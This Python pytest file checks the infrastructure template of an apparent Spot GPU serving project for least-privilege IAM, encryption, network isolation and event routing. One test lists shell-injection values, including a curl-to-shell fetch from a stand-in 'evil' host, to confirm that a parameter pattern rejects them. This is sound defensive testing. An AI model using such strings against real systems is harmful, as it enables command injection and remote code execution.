"""Structural checks on template.yaml that matter for safety and for the contracts with the code.

Most checks read the template after the real SAM transform (what CloudFormation receives), resolved for a
stack named `spotkeeper` in us-east-1 (tests/cfn.py).
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import boto3
import pytest
from cfn import (
    ACCOUNT_ID,
    GROUP_NAME,
    REGION,
    STACK_NAME,
    Stack,
    load_template,
    sam_translate,
    stack_rules,
)
from moto import mock_aws

from spotkeeper.events import LifecycleHook
from spotkeeper.observability import MetricName
from spotkeeper_local.embedded_aws import AMI_PARAMETER, local_template

DLQ_ARN = {"Fn::GetAtt": ["DeadLetterQueue", "Arn"]}
GROUP_ARN = f"arn:aws:autoscaling:{REGION}:{ACCOUNT_ID}:autoScalingGroup:*:autoScalingGroupName/{GROUP_NAME}"

# IAM authorizes these only on Resource "*" (they have no resource types in the Service Authorization
# Reference): read-only Describe/Get calls and the Pricing API. Nothing else may use "*".
STAR_ONLY_ACTIONS = {
    "autoscaling:DescribeAutoScalingGroups",
    "autoscaling:DescribeInstanceRefreshes",
    "autoscaling:DescribeLifecycleHooks",
    "ec2:DescribeAddresses",
    "ec2:DescribeInstances",
    "ec2:DescribeLaunchTemplateVersions",
    "ec2:DescribeSpotPriceHistory",
    "ec2:DescribeSubnets",
    "ec2:GetSpotPlacementScores",
}

# Resource wildcards allowed without a condition, each with the reason.
UNCONDITIONED_WILDCARDS = {
    # The group ARN's "*" stands for the group's id; the name at the end pins the group.
    ("autoscaling", f":autoScalingGroupName/{GROUP_NAME}"),
}

# AWS managed policies SAM and the fleet role attach: logs, X-Ray, VPC ENIs, Session Manager.
ALLOWED_MANAGED_POLICIES = {
    "AWSLambdaBasicExecutionRole",
    "AWSXrayWriteOnlyAccess",
    "AWSLambdaVPCAccessExecutionRole",
    "AmazonSSMManagedInstanceCore",
}

# The metrics contract (notes/COMMON.md "Metrics"): what the functions publish with EMF.
SPOTKEEPER_METRICS = {name.value for name in MetricName}
AWS_METRICS = {("AWS/SQS", "ApproximateNumberOfMessagesVisible"), ("AWS/Lambda", "Errors")}

COMMON_ENV = {
    "GROUP_NAME",
    "EIP_ALLOCATION_ID",
    "STATE_TABLE_NAME",
    "ALERT_TOPIC_ARN",
    "MODEL_ID",
    "TGI_PORT",
    "LAUNCH_DEADLINE_SECONDS",
    "READY_POLL_SECONDS",
    "DRAIN_SECONDS",
    "UNHEALTHY_AFTER_FAILURES",
    "PROBE_TIMEOUT_SECONDS",
    "POWERTOOLS_SERVICE_NAME",
    "POWERTOOLS_METRICS_NAMESPACE",
    "POWERTOOLS_LOG_LEVEL",
}
EXTRA_ENV = {
    "CapacityFunction": {
        "MIN_ON_DEMAND_SECONDS",
        "SPOT_SCORE_THRESHOLD",
        "ENDPOINT_DOWN_ALARM_NAME",
    },
    "LifecycleFunction": {"CREATION_SIGNAL_STACK"},
    "HealthFunction": {"CREATION_SIGNAL_STACK"},
    "GatewayFunction": {
        "MAX_BODY_BYTES",
        "MAX_NEW_TOKENS",
        "MAX_INPUT_CHARS",
        "BACKEND_CACHE_SECONDS",
        "RETRY_AFTER_SECONDS",
        "AWS_LAMBDA_EXEC_WRAPPER",
        "AWS_LWA_INVOKE_MODE",
        "AWS_LWA_READINESS_CHECK_PATH",
        "PORT",
    },
}
FUNCTIONS = [
    "InterruptionFunction",
    "LifecycleFunction",
    "HealthFunction",
    "CapacityFunction",
    "GatewayFunction",
    "AuthorizerFunction",
]
ATTACH = {"Mode": "attach", "ExistingGroupName": GROUP_NAME, "ExistingEipAllocationId": "eipalloc-0123456789abcdef0"}


@pytest.fixture(scope="module")
def template() -> dict[str, Any]:
    return load_template()


@pytest.fixture(scope="module")
def cfn(template: dict[str, Any]) -> dict[str, Any]:
    """What CloudFormation receives after the SAM transform."""
    return sam_translate(template)


def _of_type(cfn: dict[str, Any], resource_type: str) -> dict[str, dict[str, Any]]:
    return {k: v for k, v in cfn["Resources"].items() if v["Type"] == resource_type}


def _as_list(value: Any) -> list[Any]:
    return value if isinstance(value, list) else [value]


def _role_statements(cfn: dict[str, Any], stack: Stack) -> list[tuple[str, dict[str, Any]]]:
    statements = []
    for logical_id, role in _of_type(cfn, "AWS::IAM::Role").items():
        if not stack.resource_exists(logical_id):
            continue
        for policy in stack.resolve(role["Properties"]).get("Policies", []):
            statements += [(logical_id, s) for s in policy["PolicyDocument"]["Statement"]]
    return statements


# ------------------------------------------------------------------------------------------------------------
# Failed events end in the dead-letter queue
# ------------------------------------------------------------------------------------------------------------
def test_every_event_triggered_function_sends_failures_to_the_dlq(cfn: dict[str, Any]) -> None:
    invoke_configs = {
        v["Properties"]["FunctionName"]["Ref"]: v["Properties"]
        for v in _of_type(cfn, "AWS::Lambda::EventInvokeConfig").values()
    }
    triggered = set()
    for rule_id, rule in _of_type(cfn, "AWS::Events::Rule").items():
        for target in rule["Properties"]["Targets"]:
            function = target["Arn"]["Fn::GetAtt"][0]
            triggered.add(function)
            # Then each rule target retries and dead-letters into the DLQ
            assert target["DeadLetterConfig"] == {"Arn": DLQ_ARN}, rule_id
            assert target["RetryPolicy"]["MaximumRetryAttempts"] >= 1, rule_id
            assert target["RetryPolicy"]["MaximumEventAgeInSeconds"] >= 60, rule_id
    assert triggered == {"InterruptionFunction", "LifecycleFunction", "HealthFunction", "CapacityFunction"}
    for function in triggered:
        # and each triggered function's async invocations go to the DLQ after 2 retries
        config = invoke_configs[function]
        assert config["MaximumRetryAttempts"] == 2
        assert config["DestinationConfig"]["OnFailure"]["Destination"] == DLQ_ARN
        # with the role allowed to deliver there
        policies = cfn["Resources"][f"{function}Role"]["Properties"]["Policies"]
        assert any(
            s["Action"] == "sqs:SendMessage" and s["Resource"] == DLQ_ARN
            for p in policies
            for s in p["PolicyDocument"]["Statement"]
        ), function


def test_dlq_admits_exactly_the_stack_rules(cfn: dict[str, Any]) -> None:
    stack = Stack(cfn)
    rule_arns = {
        f"arn:aws:events:{REGION}:{ACCOUNT_ID}:rule/{stack.resolve(rule['Properties']['Name'])}"
        for rule in _of_type(cfn, "AWS::Events::Rule").values()
    }
    policy = stack.resolve(cfn["Resources"]["DeadLetterQueuePolicy"]["Properties"]["PolicyDocument"])
    allows = [s for s in policy["Statement"] if s["Effect"] == "Allow"]
    assert len(allows) == 1
    assert allows[0]["Principal"] == {"Service": "events.amazonaws.com"}
    assert allows[0]["Action"] == "sqs:SendMessage"
    assert set(allows[0]["Condition"]["ArnEquals"]["aws:SourceArn"]) == rule_arns
    assert len(rule_arns) == 7


def test_dlq_keeps_messages_as_long_as_sqs_allows_and_encrypts_them(template: dict[str, Any]) -> None:
    queue = template["Resources"]["DeadLetterQueue"]["Properties"]
    assert queue["MessageRetentionPeriod"] == 1209600
    assert queue["SqsManagedSseEnabled"] is True


# ------------------------------------------------------------------------------------------------------------
# Logs, state, alerts
# ------------------------------------------------------------------------------------------------------------
def test_every_function_logs_to_its_own_group_with_retention(cfn: dict[str, Any]) -> None:
    functions = _of_type(cfn, "AWS::Lambda::Function")
    assert set(functions) == set(FUNCTIONS)
    groups = []
    for logical_id, function in functions.items():
        group = function["Properties"]["LoggingConfig"]["LogGroup"]["Ref"]
        assert cfn["Resources"][group]["Type"] == "AWS::Logs::LogGroup", logical_id
        assert cfn["Resources"][group]["Properties"]["RetentionInDays"] == {"Ref": "RetentionInDays"}
        assert cfn["Resources"][group]["Properties"]["KmsKeyId"] == {"Fn::GetAtt": ["StackKey", "Arn"]}
        groups.append(group)
    assert len(set(groups)) == len(groups)
    # and the key lets CloudWatch Logs use it for exactly these groups
    stack = Stack(cfn)
    statements = stack.resolve(cfn["Resources"]["StackKey"]["Properties"]["KeyPolicy"])["Statement"]
    (logs,) = [s for s in statements if s["Principal"] == {"Service": f"logs.{REGION}.amazonaws.com"}]
    allowed = logs["Condition"]["ArnLike"]["kms:EncryptionContext:aws:logs:arn"]
    for group in groups:
        name = stack.resolve(cfn["Resources"][group]["Properties"]["LogGroupName"])
        assert re.fullmatch(allowed.replace("*", ".*"), f"arn:aws:logs:{REGION}:{ACCOUNT_ID}:log-group:{name}")


def test_state_table_matches_the_state_store_contract(template: dict[str, Any]) -> None:
    table = template["Resources"]["StateTable"]["Properties"]
    assert table["KeySchema"] == [
        {"AttributeName": "pk", "KeyType": "HASH"},
        {"AttributeName": "sk", "KeyType": "RANGE"},
    ]
    assert table["BillingMode"] == "PAY_PER_REQUEST"
    assert table["TimeToLiveSpecification"] == {"AttributeName": "expiration", "Enabled": True}
    assert table["PointInTimeRecoverySpecification"] == {"PointInTimeRecoveryEnabled": True}
    assert table["SSESpecification"] == {"SSEEnabled": True}


def test_alert_topic_is_encrypted_with_a_key_the_alarms_can_use(template: dict[str, Any]) -> None:
    resources = template["Resources"]
    assert resources["AlertTopic"]["Properties"]["KmsMasterKeyId"] == {"Ref": "StackKey"}
    statements = resources["StackKey"]["Properties"]["KeyPolicy"]["Statement"]
    cloudwatch = [s for s in statements if s["Principal"] == {"Service": "cloudwatch.amazonaws.com"}]
    assert len(cloudwatch) == 1
    assert set(cloudwatch[0]["Action"]) == {"kms:Decrypt", "kms:GenerateDataKey*"}
    assert "aws:SourceAccount" in cloudwatch[0]["Condition"]["StringEquals"]


# ------------------------------------------------------------------------------------------------------------
# Least privilege
# ------------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("parameters", [{}, ATTACH], ids=["create", "attach"])
def test_no_iam_statement_uses_a_wildcard_it_does_not_need(cfn: dict[str, Any], parameters: dict[str, str]) -> None:
    stack = Stack(cfn, parameters=parameters, ref_values={"FleetEip.AllocationId": "eipalloc-0fedcba9876543210"})
    statements = _role_statements(cfn, stack)
    assert len(statements) > 20
    for role, statement in statements:
        if statement["Effect"] != "Allow":
            continue
        actions = _as_list(statement["Action"])
        assert not any(a == "*" or a.endswith(":*") for a in actions), (role, statement)
        for resource in _as_list(statement["Resource"]):
            if resource == "*":
                assert set(actions) <= STAR_ONLY_ACTIONS, (role, statement)
            elif "*" in resource and "Condition" not in statement:
                assert any(
                    (a == key or a.startswith(key + ":")) and (resource.endswith(tail) or resource == tail)
                    for a in actions
                    for key, tail in UNCONDITIONED_WILDCARDS
                ), (role, statement)


def test_group_changes_are_scoped_to_the_stacks_group(cfn: dict[str, Any]) -> None:
    stack = Stack(cfn)
    for role, statement in _role_statements(cfn, stack):
        for action in _as_list(statement["Action"]):
            if action.startswith("autoscaling:") and not action.startswith("autoscaling:Describe"):
                assert statement["Resource"] == GROUP_ARN, (role, action)


def test_state_access_is_scoped_to_the_groups_items(cfn: dict[str, Any]) -> None:
    stack = Stack(cfn)
    for role, statement in _role_statements(cfn, stack):
        if any(a.startswith("dynamodb:") for a in _as_list(statement["Action"])):
            assert statement["Resource"] == "<StateTable.Arn>", role
            leading = next(iter(statement["Condition"].values()))["dynamodb:LeadingKeys"]
            if role == "AuthorizerFunctionRole":
                assert leading == ["apikey"]
                assert statement["Action"] == "dynamodb:GetItem"
            else:
                assert f"group#{GROUP_NAME}" in leading
                assert "apikey" not in leading


def test_elastic_ip_moves_only_to_instances_of_the_group(cfn: dict[str, Any]) -> None:
    stack = Stack(cfn, ref_values={"FleetEip.AllocationId": "eipalloc-0fedcba9876543210"})
    for role, statement in _role_statements(cfn, stack):
        if "ec2:AssociateAddress" not in _as_list(statement["Action"]):
            continue
        resource = statement["Resource"]
        if resource.endswith(":instance/*"):
            condition = statement["Condition"]["StringEquals"]
            assert condition == {"aws:ResourceTag/aws:autoscaling:groupName": GROUP_NAME}, role
        elif ":elastic-ip/" in resource:
            assert resource.endswith(":elastic-ip/eipalloc-0fedcba9876543210"), role
        elif ":network-interface/" in resource:
            # AssociateAddress authorizes network-interface too (Service Authorization Reference, with the
            # condition keys aws:ResourceTag, ec2:NetworkInterfaceID, ec2:Subnet, ec2:Vpc ...): only the fleet's VPC.
            assert statement["Condition"] == {
                "StringEquals": {"ec2:Vpc": f"arn:aws:ec2:{REGION}:{ACCOUNT_ID}:vpc/<VpcId>"}
            }, role
        else:
            raise AssertionError(f"{role} may associate the Elastic IP with {resource}")


@pytest.mark.parametrize("parameters", [{}, ATTACH], ids=["create", "attach"])
def test_only_instances_spotkeeper_detached_may_be_terminated_directly(
    cfn: dict[str, Any], parameters: dict[str, str]
) -> None:
    from spotkeeper.fleet import DETACHED_TAG

    stack = Stack(cfn, parameters=parameters)
    terminating, tagging = {}, {}
    for role, statement in _role_statements(cfn, stack):
        actions = _as_list(statement["Action"])
        if "ec2:TerminateInstances" in actions:
            terminating[role] = statement
        if "ec2:CreateTags" in actions and role != "CapacityFunctionRole":
            tagging[role] = statement
    # The functions that promote a replacement terminate only instances tagged as detached from this group
    assert set(terminating) == {"LifecycleFunctionRole", "HealthFunctionRole"}
    for statement in terminating.values():
        assert statement["Action"] == "ec2:TerminateInstances"
        assert statement["Resource"] == f"arn:aws:ec2:{REGION}:{ACCOUNT_ID}:instance/*"
        assert statement["Condition"] == {"StringEquals": {f"aws:ResourceTag/{DETACHED_TAG}": GROUP_NAME}}
    # ...and only the interruption function may put that tag, with that value, on instances of the group
    assert set(tagging) == {"InterruptionFunctionRole"}
    condition = tagging["InterruptionFunctionRole"]["Condition"]
    assert condition == {
        "StringEquals": {
            "aws:ResourceTag/aws:autoscaling:groupName": GROUP_NAME,
            f"aws:RequestTag/{DETACHED_TAG}": GROUP_NAME,
        },
        "ForAllValues:StringEquals": {"aws:TagKeys": [DETACHED_TAG]},
    }


def test_only_allowed_managed_policies_are_attached(cfn: dict[str, Any]) -> None:
    stack = Stack(cfn, parameters={"EnableSsmSessions": "true"})
    for logical_id, role in _of_type(cfn, "AWS::IAM::Role").items():
        for arn in stack.resolve(role["Properties"]).get("ManagedPolicyArns", []):
            assert arn.rsplit("/", 1)[-1] in ALLOWED_MANAGED_POLICIES, (logical_id, arn)


def test_fleet_role_reads_only_the_token_secret(cfn: dict[str, Any]) -> None:
    secret = f"arn:aws:secretsmanager:{REGION}:{ACCOUNT_ID}:secret:spotkeeper/hf-token-AbCdEf"
    with_token = Stack(cfn, parameters={"HfTokenSecretArn": secret}).resolve(
        cfn["Resources"]["FleetInstanceRole"]["Properties"]
    )
    statements = [s for p in with_token["Policies"] for s in p["PolicyDocument"]["Statement"]]
    assert statements == [{"Effect": "Allow", "Action": "secretsmanager:GetSecretValue", "Resource": secret}]
    assert "ManagedPolicyArns" not in with_token
    without_token = Stack(cfn).resolve(cfn["Resources"]["FleetInstanceRole"]["Properties"])
    assert "Policies" not in without_token


def test_fleet_role_decrypts_a_customer_key_secret_only_through_secrets_manager(cfn: dict[str, Any]) -> None:
    key = f"arn:aws:kms:{REGION}:{ACCOUNT_ID}:key/1234abcd-12ab-34cd-56ef-1234567890ab"
    stack = Stack(cfn, parameters={"HfTokenSecretArn": SECRET_ARN, "HfTokenSecretKmsKeyArn": key})
    role = stack.resolve(cfn["Resources"]["FleetInstanceRole"]["Properties"])
    statements = [s for p in role["Policies"] for s in p["PolicyDocument"]["Statement"]]
    assert statements == [
        {"Effect": "Allow", "Action": "secretsmanager:GetSecretValue", "Resource": SECRET_ARN},
        {
            "Effect": "Allow",
            "Action": "kms:Decrypt",
            "Resource": key,
            "Condition": {
                "StringEquals": {
                    "kms:ViaService": f"secretsmanager.{REGION}.amazonaws.com",
                    "kms:EncryptionContext:SecretARN": SECRET_ARN,
                }
            },
        },
    ]
    pattern = re.compile(cfn["Parameters"]["HfTokenSecretKmsKeyArn"]["AllowedPattern"])
    assert pattern.fullmatch(key) and pattern.fullmatch("")
    assert not pattern.fullmatch(f"arn:aws:kms:{REGION}:{ACCOUNT_ID}:alias/aws/secretsmanager")


def test_gateway_function_is_invoked_only_by_its_api(cfn: dict[str, Any]) -> None:
    stack = Stack(cfn, ref_values={"GatewayApi": "a1b2c3d4e5"})
    permissions = [
        stack.resolve(p["Properties"])
        for p in _of_type(cfn, "AWS::Lambda::Permission").values()
        if p["Properties"]["FunctionName"] == {"Fn::GetAtt": ["GatewayFunction", "Arn"]}
    ]
    assert len(permissions) == 1
    assert permissions[0]["Principal"] == "apigateway.amazonaws.com"
    assert permissions[0]["SourceArn"] == f"arn:aws:execute-api:{REGION}:{ACCOUNT_ID}:a1b2c3d4e5/dev/*"


# ------------------------------------------------------------------------------------------------------------
# Serving fleet
# ------------------------------------------------------------------------------------------------------------
def test_fleet_tgi_port_is_open_only_to_the_function_security_group(cfn: dict[str, Any]) -> None:
    resources = cfn["Resources"]
    assert "SecurityGroupIngress" not in resources["FleetSecurityGroup"]["Properties"]
    ingress_rules = _of_type(cfn, "AWS::EC2::SecurityGroupIngress")
    assert list(ingress_rules) == ["FleetTgiIngressFromFunctions"]
    rule = ingress_rules["FleetTgiIngressFromFunctions"]["Properties"]
    assert rule["GroupId"] == {"Fn::GetAtt": ["FleetSecurityGroup", "GroupId"]}
    assert rule["SourceSecurityGroupId"] == {"Fn::GetAtt": ["FunctionSecurityGroup", "GroupId"]}
    assert rule["FromPort"] == rule["ToPort"] == {"Ref": "TgiPort"}
    assert not {"CidrIp", "CidrIpv6", "SourcePrefixListId"} & set(rule)
    # and nothing anywhere admits the internet
    for sg in _of_type(cfn, "AWS::EC2::SecurityGroup").values():
        assert "SecurityGroupIngress" not in sg["Properties"]


def test_launch_template_requires_imdsv2_and_an_encrypted_gp3_root(cfn: dict[str, Any]) -> None:
    data = cfn["Resources"]["FleetLaunchTemplate"]["Properties"]["LaunchTemplateData"]
    assert data["MetadataOptions"]["HttpTokens"] == "required"
    assert data["MetadataOptions"]["HttpPutResponseHopLimit"] == 1
    (root,) = data["BlockDeviceMappings"]
    assert root["Ebs"]["VolumeType"] == "gp3"
    assert root["Ebs"]["VolumeSize"] == {"Ref": "RootVolumeGiB"}
    assert root["Ebs"]["Encrypted"] is True
    assert data["ImageId"] == {"Ref": "AmiSsmParameter"}
    assert cfn["Parameters"]["AmiSsmParameter"]["Type"] == "AWS::SSM::Parameter::Value<AWS::EC2::Image::Id>"
    assert cfn["Parameters"]["AmiSsmParameter"]["Default"].startswith("/aws/service/deeplearning/ami/")


@pytest.mark.parametrize(
    ("instance_types", "expected"),
    [
        ("g5.2xlarge,g6.2xlarge,g6e.2xlarge", ["g5.2xlarge", "g6.2xlarge", "g6e.2xlarge"]),
        ("g5.12xlarge", ["g5.12xlarge"]),
        ("a,b,c,d,e,f", ["a", "b", "c", "d", "e", "f"]),
    ],
)
def test_group_is_spot_first_with_headroom_for_a_replacement(
    cfn: dict[str, Any], instance_types: str, expected: list[str]
) -> None:
    stack = Stack(cfn, parameters={"InstanceTypes": instance_types})
    group = stack.resolve(cfn["Resources"]["FleetGroup"]["Properties"])
    assert group["AutoScalingGroupName"] == GROUP_NAME
    assert (group["MinSize"], group["MaxSize"], group["DesiredCapacity"]) == ("1", "2", "1")
    assert group["CapacityRebalance"] is True
    distribution = group["MixedInstancesPolicy"]["InstancesDistribution"]
    assert distribution["OnDemandBaseCapacity"] == "0"  # the OnDemandFloor parameter's default
    assert distribution["OnDemandPercentageAboveBaseCapacity"] == 0
    assert distribution["SpotAllocationStrategy"] == "price-capacity-optimized"
    overrides = group["MixedInstancesPolicy"]["LaunchTemplate"]["Overrides"]
    assert [o["InstanceType"] for o in overrides] == expected
    hooks = {h["LifecycleTransition"]: h for h in group["LifecycleHookSpecificationList"]}
    assert hooks["autoscaling:EC2_INSTANCE_LAUNCHING"]["DefaultResult"] == "ABANDON"
    assert hooks["autoscaling:EC2_INSTANCE_TERMINATING"]["DefaultResult"] == "CONTINUE"


@pytest.mark.parametrize("warmup", ["60", "0", "600"])
def test_refreshes_warm_up_as_configured_not_for_the_health_check_grace_period(
    cfn: dict[str, Any], warmup: str
) -> None:
    # Without DefaultInstanceWarmup (and InstanceWarmup) an instance refresh waits HealthCheckGracePeriod - the
    # launch deadline - per instance: the fall-forward would keep the On-Demand instance half an hour too long.
    # https://docs.aws.amazon.com/autoscaling/ec2/userguide/understand-instance-refresh-default-values.html
    stack = Stack(cfn, parameters={"InstanceWarmupSeconds": warmup})
    group = stack.resolve(cfn["Resources"]["FleetGroup"]["Properties"])
    assert group["DefaultInstanceWarmup"] == warmup
    assert int(group["DefaultInstanceWarmup"]) < int(group["HealthCheckGracePeriod"])
    # AWS accepts a DefaultInstanceWarmup of 0-3600 seconds (-1 turns it off)
    # https://docs.aws.amazon.com/autoscaling/ec2/userguide/enable-default-instance-warmup.html
    declared = cfn["Parameters"]["InstanceWarmupSeconds"]
    assert (declared["MinValue"], declared["MaxValue"]) == (0, 3600)


@pytest.mark.parametrize(("reserved", "expected"), [(None, 100), ("250", 250), ("0", None)])
def test_the_gateway_has_a_concurrency_ceiling_and_0_never_throttles_it(
    cfn: dict[str, Any], reserved: str | None, expected: int | None
) -> None:
    # Lambda reads ReservedConcurrentExecutions 0 as "throttle every invocation"
    # (https://docs.aws.amazon.com/lambda/latest/dg/configuration-concurrency.html): the parameter's 0 means
    # "reserve nothing" and leaves the property out.
    stack = Stack(cfn, parameters={"GatewayReservedConcurrency": reserved} if reserved else {})
    gateway = stack.resolve(cfn["Resources"]["GatewayFunction"]["Properties"])
    assert gateway.get("ReservedConcurrentExecutions") == (str(expected) if expected is not None else None)
    # The control functions are not capped: only the gateway's traffic comes from outside
    for function in FUNCTIONS:
        if function != "GatewayFunction":
            assert "ReservedConcurrentExecutions" not in cfn["Resources"][function]["Properties"], function


def test_first_launch_waits_for_its_lifecycle_rule(cfn: dict[str, Any]) -> None:
    # The first instance's hook event would be lost if the group came up before its rule.
    depends_on = set(cfn["Resources"]["FleetGroup"]["DependsOn"])
    rule = next(k for k, v in _of_type(cfn, "AWS::Events::Rule").items() if "lifecycle" in json.dumps(v))
    assert {rule, f"{rule}Permission"} <= depends_on


def test_stack_creation_waits_for_the_first_serving_instance_not_for_its_first_launch(cfn: dict[str, Any]) -> None:
    from spotkeeper.stack_signal import FLEET_GROUP_LOGICAL_ID

    # CloudFormation waits for one signal (not for InService, which a slow or abandoned first launch would fail)
    group = cfn["Resources"][FLEET_GROUP_LOGICAL_ID]
    assert group["Type"] == "AWS::AutoScaling::AutoScalingGroup"
    signal = group["CreationPolicy"]["ResourceSignal"]
    assert signal["Count"] == 1
    hours = re.fullmatch(r"PT(\d+)H", signal["Timeout"])
    assert hours and int(hours.group(1)) * 3600 >= cfn["Parameters"]["LaunchDeadlineSeconds"]["MaxValue"] + 3600
    assert int(hours.group(1)) <= 12  # CloudFormation's maximum
    # ...which the functions that promote a launch send, to this stack only, in create mode only (empty in attach)
    for parameters, expected in [({}, STACK_NAME), (ATTACH, "")]:
        stack = Stack(cfn, parameters=parameters)
        statements = _role_statements(cfn, stack)
        signalling = {role: s for role, s in statements if "cloudformation:SignalResource" in _as_list(s["Action"])}
        for function in ("LifecycleFunction", "HealthFunction"):
            env = stack.resolve(cfn["Resources"][function]["Properties"]["Environment"]["Variables"])
            assert env["CREATION_SIGNAL_STACK"] == expected
        assert set(signalling) == {"LifecycleFunctionRole", "HealthFunctionRole"}
        assert all(s["Resource"] == stack.pseudo["AWS::StackId"] for s in signalling.values())


def test_attach_mode_manages_the_given_group_and_eip(cfn: dict[str, Any]) -> None:
    stack = Stack(cfn, parameters=ATTACH)
    for create_only in ["FleetGroup", "FleetLaunchTemplate", "FleetEip", "FleetSecurityGroup", "FleetInstanceRole"]:
        assert not stack.resource_exists(create_only)
    env = stack.resolve(cfn["Resources"]["LifecycleFunction"]["Properties"]["Environment"]["Variables"])
    assert env["GROUP_NAME"] == GROUP_NAME
    assert env["EIP_ALLOCATION_ID"] == ATTACH["ExistingEipAllocationId"]
    for hook in ["AttachedLaunchHook", "AttachedTerminateHook"]:
        assert stack.resource_exists(hook)
        assert stack.resolve(cfn["Resources"][hook]["Properties"])["AutoScalingGroupName"] == GROUP_NAME


# ------------------------------------------------------------------------------------------------------------
# User data and secrets
# ------------------------------------------------------------------------------------------------------------
SECRET_ARN = f"arn:aws:secretsmanager:{REGION}:{ACCOUNT_ID}:secret:spotkeeper/hf-token-AbCdEf"
SECRET_LIKE = re.compile(
    r"hf_[A-Za-z0-9]{20,}|sk-[A-Za-z0-9]{20,}|AKIA[0-9A-Z]{16}|gh[pousr]_[A-Za-z0-9]{20,}|-----BEGIN"
)


# The user data's behaviour (token, weights, NVMe, fallbacks) is tested by running it: tests/test_bootstrap.py.


def test_model_id_cannot_smuggle_shell_into_user_data(template: dict[str, Any]) -> None:
    pattern = re.compile(template["Parameters"]["ModelId"]["AllowedPattern"])
    assert pattern.fullmatch("meta-llama/Llama-3.1-8B-Instruct")
    for hostile in ["x'; curl evil | sh; '", "a/b c", "$(id)", "a/b/c", "`id`"]:
        assert not pattern.fullmatch(hostile)


def test_no_parameter_default_looks_like_a_secret(template: dict[str, Any]) -> None:
    for name, spec in template["Parameters"].items():
        default = str(spec.get("Default", ""))
        assert not SECRET_LIKE.search(default), name
        if re.search(r"(Secret|Password|ApiKey|Token)(Arn)?$", name):
            assert default == "", name


# ------------------------------------------------------------------------------------------------------------
# Functions, rules, alarms, dashboard
# ------------------------------------------------------------------------------------------------------------
def test_functions_get_the_shared_environment_contract(cfn: dict[str, Any]) -> None:
    stack = Stack(cfn)
    hooks = {
        h["LifecycleTransition"]: h["LifecycleHookName"]
        for h in stack.resolve(cfn["Resources"]["FleetGroup"]["Properties"]["LifecycleHookSpecificationList"])
    }
    assert hooks == {hook.transition: hook.value for hook in LifecycleHook}
    for function in FUNCTIONS:
        env = stack.resolve(cfn["Resources"][function]["Properties"]["Environment"]["Variables"])
        assert COMMON_ENV | EXTRA_ENV.get(function, set()) <= set(env), function
        assert env["GROUP_NAME"] == GROUP_NAME
        assert env["POWERTOOLS_METRICS_NAMESPACE"] == "Spotkeeper"
        assert env["POWERTOOLS_SERVICE_NAME"] == "spotkeeper"
        assert env["TGI_PORT"] == "8080"
        assert env["LAUNCH_HOOK_NAME"] == hooks["autoscaling:EC2_INSTANCE_LAUNCHING"]
        assert env["TERMINATE_HOOK_NAME"] == hooks["autoscaling:EC2_INSTANCE_TERMINATING"]
        assert "TGI_URL" not in env  # an override for local runs only
    capacity = stack.resolve(cfn["Resources"]["CapacityFunction"]["Properties"]["Environment"]["Variables"])
    assert capacity["ENDPOINT_DOWN_ALARM_NAME"] == stack.resolve(
        cfn["Resources"]["EndpointDownAlarm"]["Properties"]["AlarmName"]
    )
    gateway = stack.resolve(cfn["Resources"]["GatewayFunction"]["Properties"])
    assert gateway["Handler"] == "run.sh"
    assert gateway["Environment"]["Variables"]["AWS_LAMBDA_EXEC_WRAPPER"] == "/opt/bootstrap"
    assert gateway["Environment"]["Variables"]["AWS_LWA_INVOKE_MODE"] == "response_stream"
    assert f"arn:aws:lambda:{REGION}:753240598075:layer:LambdaAdapterLayerArm64:25" in gateway["Layers"]


def test_all_functions_run_python313_on_arm64_with_tracing_and_the_shared_layer(cfn: dict[str, Any]) -> None:
    layer = next(iter(_of_type(cfn, "AWS::Lambda::LayerVersion")))
    for function in FUNCTIONS:
        props = cfn["Resources"][function]["Properties"]
        assert props["Runtime"] == "python3.13"
        assert props["Architectures"] == ["arm64"]
        assert props["TracingConfig"] == {"Mode": "Active"}
        assert {"Ref": layer} in props["Layers"]


def test_rules_are_as_narrow_as_aws_allows(template: dict[str, Any]) -> None:
    rules = {(r.function, r.event): r for r in stack_rules(Stack(template))}
    for rule in rules.values():
        assert rule.name.startswith(f"{STACK_NAME}-")
        if rule.pattern and rule.pattern["source"] == ["aws.autoscaling"]:
            assert rule.pattern["detail"]["AutoScalingGroupName"] == [GROUP_NAME]
    # EC2 events carry no group: they can only be narrowed to their type.
    assert rules[("InterruptionFunction", "SpotInterruption")].pattern == {
        "source": ["aws.ec2"],
        "detail-type": ["EC2 Spot Instance Interruption Warning"],
    }
    assert rules[("HealthFunction", "Probe")].schedule == "rate(1 minute)"
    assert rules[("CapacityFunction", "FallForward")].schedule == "rate(5 minutes)"


def _alarm_metrics(alarm: dict[str, Any]) -> list[tuple[str, str, dict[str, str]]]:
    if "MetricName" in alarm:
        return [(alarm["Namespace"], alarm["MetricName"], {d["Name"]: d["Value"] for d in alarm["Dimensions"]})]
    return [
        (
            m["MetricStat"]["Metric"]["Namespace"],
            m["MetricStat"]["Metric"]["MetricName"],
            {d["Name"]: d["Value"] for d in m["MetricStat"]["Metric"]["Dimensions"]},
        )
        for m in alarm["Metrics"]
        if "MetricStat" in m
    ]


def test_alarms_watch_published_metrics_and_notify_the_topic(template: dict[str, Any]) -> None:
    stack = Stack(template)
    alarms = {k: stack.resolve(v["Properties"]) for k, v in template["Resources"].items()
              if v["Type"] == "AWS::CloudWatch::Alarm"}  # fmt: skip
    assert set(alarms) == {"EndpointDownAlarm", "FallbackActiveAlarm", "DlqNotEmptyAlarm", "FunctionErrorsAlarm"}
    alarm_rule = next(
        r for r in stack_rules(stack) if (r.function, r.event) == ("CapacityFunction", "AlarmStateChange")
    )
    assert sorted(alarm_rule.pattern["detail"]["alarmName"]) == sorted(a["AlarmName"] for a in alarms.values())
    for logical_id, alarm in alarms.items():
        assert alarm["AlarmName"].startswith(f"{STACK_NAME}-"), logical_id
        assert alarm["AlarmActions"] == alarm["OKActions"] == ["<AlertTopic>"], logical_id
        for namespace, name, dimensions in _alarm_metrics(alarm):
            if namespace == "Spotkeeper":
                assert name in SPOTKEEPER_METRICS, (logical_id, name)
                # Powertools adds its service name as a dimension to every metric it publishes.
                assert dimensions == {"AutoScalingGroupName": GROUP_NAME, "service": "spotkeeper"}, logical_id
            else:
                assert (namespace, name) in AWS_METRICS, (logical_id, namespace, name)
    endpoint_down = alarms["EndpointDownAlarm"]
    assert (endpoint_down["MetricName"], endpoint_down["Statistic"]) == ("Healthy", "Maximum")
    assert endpoint_down["ComparisonOperator"] == "LessThanThreshold"
